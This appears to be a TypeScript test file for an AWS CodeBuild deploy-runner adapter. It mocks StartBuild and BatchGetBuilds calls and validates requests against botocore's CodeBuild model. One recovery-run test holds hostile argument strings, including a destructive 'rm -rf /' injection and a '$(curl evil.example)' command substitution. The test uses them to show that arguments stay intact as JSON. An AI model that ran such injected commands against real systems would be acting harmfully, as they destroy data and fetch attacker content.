import * as assert from "assert";
import { execFileSync } from "child_process";
import {
    AccountLimitExceededException,
    BatchGetBuildsCommand,
    BatchGetProjectsCommand,
    CodeBuildClient,
    StartBuildCommand,
} from "@aws-sdk/client-codebuild";
import { AwsClientStub } from "aws-sdk-client-mock";
import { mockInstance } from "../../../support/mock-client";
import { CodeBuildDeployRunner } from "../../../../automation/adapters/aws/deploy-runner";
import { awsCliInterpreter } from "../../../support/aws-cli";
import { requirePeer } from "../../../support/peers";

/*
 * CodeBuildDeployRunner against aws-sdk-client-mock, with each request checked by botocore's
 * own parameter validation against CodeBuild's service model. Not against moto: moto 5.2's
 * CodeBuild answers StartBuild with ISO-8601 strings where the JSON protocol has epoch
 * seconds (moto/codebuild/models.py startTime), which the SDK refuses to deserialize.
 */

const REGION = "us-west-2";
const PROJECT = "webank-dr-deploy";
const BUILD = `${PROJECT}:4b8c2f1e-9d3a-4e57-8a61-0c2b7d9e5f13`;
const DEEP_LINK = `https://console.aws.amazon.com/cloudwatch/home?region=${REGION}#logEvent:group=/aws/codebuild/${PROJECT};stream=${BUILD.split(":")[1]}`;
const FAST = { pollDelays: { minDelaySeconds: 0.001, maxDelaySeconds: 0.002 } };
const meta = { $metadata: {} };

/** botocore's validate_parameters of `input` for CodeBuild `operation`: the problems, or "" when valid. */
function botocoreProblems(python: string, operation: string, input: unknown): string {
    const script = [
        "import json, sys, botocore.session",
        "from botocore.validate import ParamValidator",
        "model = botocore.session.get_session().get_service_model('codebuild').operation_model(sys.argv[1])",
        "report = ParamValidator().validate(json.loads(sys.argv[2]), model.input_shape)",
        "print(report.generate_report() if report.has_errors() else '')",
    ].join("\n");
    return execFileSync(python, ["-c", script, operation, JSON.stringify(input)], {
        encoding: "utf8",
    }).trim();
}

describe("automation/aws/deploy-runner: CodeBuildDeployRunner", () => {
    let client: CodeBuildClient;
    let codebuild: AwsClientStub<CodeBuildClient>;
    const port = () => new CodeBuildDeployRunner(client, REGION, FAST);
    beforeEach(() => {
        client = new CodeBuildClient({ region: REGION });
        codebuild = mockInstance(client);
    });

    it("starts the runner on the uploaded version with WEBANK_COMMAND overridden, in a request CodeBuild's model accepts", async function () {
        codebuild.on(StartBuildCommand).resolves({ build: { id: BUILD } });
        assert.strictEqual(
            await port().startDeploy(PROJECT, "up", "3HL4kqtJvjVBH40Nrjfkd", "run-1-runner-up-0"),
            BUILD,
        );
        const input = codebuild.commandCalls(StartBuildCommand)[0].args[0].input;
        assert.deepStrictEqual(input, {
            projectName: PROJECT,
            sourceVersion: "3HL4kqtJvjVBH40Nrjfkd",
            idempotencyToken: "run-1-runner-up-0",
            environmentVariablesOverride: [{ name: "WEBANK_COMMAND", value: "up", type: "PLAINTEXT" }],
        });
        const python = requirePeer(this, "the AWS CLI's botocore (python)", awsCliInterpreter());
        assert.strictEqual(botocoreProblems(python, "StartBuild", input), "");
        // The check can fail: a misspelt member is refused by the same model.
        assert.match(
            botocoreProblems(python, "StartBuild", { ...input, sourceVersionId: "x" }),
            /Unknown parameter/,
        );
    });

    it("says a build is already running or queued, and how to list them", async () => {
        codebuild
            .on(StartBuildCommand)
            .rejects(new AccountLimitExceededException({ message: "Build limit exceeded", ...meta }));
        await assert.rejects(
            () => port().startDeploy(PROJECT, "up", "v", "t"),
            /the deploy build of webank-dr-deploy could not start: Build limit exceeded; project webank-dr-deploy runs one build at a time .* aws codebuild list-builds-for-project --region us-west-2 --project-name webank-dr-deploy/,
        );
    });

    it("stops at a failed deploy with its phase and log, and names it a deploy build", async () => {
        codebuild.on(BatchGetBuildsCommand).resolves({
            builds: [
                {
                    id: BUILD,
                    buildStatus: "FAILED",
                    currentPhase: "BUILD",
                    // LogsLocation.deepLink: "The URL to an individual build log in CloudWatch Logs"
                    // (CodeBuild API reference), the console's log-event view of the build's stream.
                    logs: { deepLink: DEEP_LINK },
                },
            ],
        });
        await assert.rejects(
            () => port().waitDeploy(BUILD, 5),
            (error: Error) =>
                error.message.startsWith(
                    `deploy build ${BUILD} ended FAILED in phase BUILD; its log: ${DEEP_LINK}; check it with: aws codebuild batch-get-builds --region us-west-2 --ids ${BUILD}`,
                ),
        );
    });

    it("waits until the deploy succeeds", async () => {
        codebuild
            .on(BatchGetBuildsCommand)
            .resolvesOnce({ builds: [{ id: BUILD, buildStatus: "IN_PROGRESS" }] })
            .resolves({ builds: [{ id: BUILD, buildStatus: "SUCCEEDED" }] });
        await port().waitDeploy(BUILD, 1);
        assert.strictEqual(codebuild.commandCalls(BatchGetBuildsCommand).length, 2);
    });

    describe("a recovery run (failover --on-runner)", () => {
        const hostile = ["--restore-time", "'; rm -rf / #", "$(curl evil.example)", "a b"];

        it("overrides WEBANK_COMMAND and passes the arguments as one JSON variable, in a request CodeBuild's model accepts", async function () {
            codebuild.on(StartBuildCommand).resolves({ build: { id: BUILD } });
            const id = await port().startRecovery(PROJECT, {
                command: "failover",
                args: hostile,
                sourceVersion: "3HL4kqtJvjVBH40Nrjfkd",
                idempotencyToken: "failover-on-runner-2026-12-04T03-00-00-000Z-a1b2c3",
            });
            assert.strictEqual(id, BUILD);
            const input = codebuild.commandCalls(StartBuildCommand)[0].args[0].input;
            assert.deepStrictEqual(input, {
                projectName: PROJECT,
                sourceVersion: "3HL4kqtJvjVBH40Nrjfkd",
                idempotencyToken: "failover-on-runner-2026-12-04T03-00-00-000Z-a1b2c3",
                environmentVariablesOverride: [
                    { name: "WEBANK_COMMAND", value: "failover", type: "PLAINTEXT" },
                    { name: "WEBANK_ARGS", value: JSON.stringify(hostile), type: "PLAINTEXT" },
                ],
            });
            // Each argument comes back whole: the variable is JSON, never shell words.
            assert.deepStrictEqual(JSON.parse(input.environmentVariablesOverride[1].value), hostile);
            const python = requirePeer(this, "the AWS CLI's botocore (python)", awsCliInterpreter());
            assert.strictEqual(botocoreProblems(python, "StartBuild", input), "");
        });

        it("names a project the account does not have as missing (BatchGetProjects projectsNotFound)", async () => {
            codebuild
                .on(BatchGetProjectsCommand, { names: [PROJECT] })
                .resolves({ projects: [], projectsNotFound: [PROJECT] });
            assert.strictEqual(await port().projectExists(PROJECT), false);
            codebuild.on(BatchGetProjectsCommand, { names: [PROJECT] }).resolves({
                projects: [
                    { name: PROJECT, arn: `arn:aws:codebuild:${REGION}:123456789012:project/${PROJECT}` },
                ],
            });
            assert.strictEqual(await port().projectExists(PROJECT), true);
        });

        it("reads a build's status, phase and log location (LogsLocation groupName, streamName, deepLink)", async () => {
            codebuild.on(BatchGetBuildsCommand, { ids: [BUILD] }).resolves({
                builds: [
                    {
                        id: BUILD,
                        buildStatus: "IN_PROGRESS",
                        currentPhase: "BUILD",
                        logs: {
                            groupName: `/aws/codebuild/${PROJECT}`,
                            streamName: BUILD.split(":")[1],
                            deepLink: DEEP_LINK,
                        },
                    },
                ],
            });
            assert.deepStrictEqual(await port().buildState(BUILD), {
                id: BUILD,
                status: "IN_PROGRESS",
                phase: "BUILD",
                deepLink: DEEP_LINK,
                logGroup: `/aws/codebuild/${PROJECT}`,
                logStream: BUILD.split(":")[1],
            });
        });

        it("answers undefined for a build CodeBuild does not know (buildsNotFound)", async () => {
            codebuild.on(BatchGetBuildsCommand).resolves({ builds: [], buildsNotFound: [BUILD] });
            assert.strictEqual(await port().buildState(BUILD), undefined);
        });
    });
});
